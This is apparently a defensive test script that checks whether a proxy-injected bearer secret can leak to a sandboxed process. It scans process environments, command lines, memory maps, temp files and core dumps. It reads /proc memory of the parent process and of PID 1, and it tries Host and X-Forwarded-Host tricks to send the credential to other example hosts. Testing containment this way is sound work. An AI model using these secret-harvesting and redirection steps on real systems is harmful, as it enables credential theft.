"""Looks for a secret that is used on its behalf, everywhere it can read: environment, arguments, files of processes, core
dumps, its own connections; and tries to have it sent elsewhere."""
import glob

from attack import *

VALUE = b"hunter2" + b"-is-the-secret"
answer = get("http://keyed.internal/use", "keyed.internal", b"Authorization: Bearer placeholder\r\n")
if status(answer) != 200:
    print("the route does not work:", answer)
    sys.exit(1)
if VALUE in answer:
    succeeded("the answer")
for path in ["/proc/self/environ", "/proc/self/cmdline"] + glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline") + \
        glob.glob("/proc/[0-9]*/maps") + glob.glob(os.environ["TMPDIR"] + "/*") + glob.glob("core*"):
    try:
        with open(path, "rb") as file:
            if VALUE in file.read(1 << 20):
                succeeded(path)
    except OSError:
        pass
for pid in (os.getppid(), 1):
    try:
        with open("/proc/%d/mem" % pid, "rb") as memory:
            memory.seek(0x400000)
            succeeded("memory of process %d: %r" % (pid, memory.read(16)))
    except (OSError, ValueError):
        pass
for host in ("api.example.com", "other.example"):  # the route is one host's
    get("http://keyed.internal/use", host)
    get("http://%s/use" % host, host, b"X-Forwarded-Host: keyed.internal\r\n")
refused("the test asks the servers what they heard")
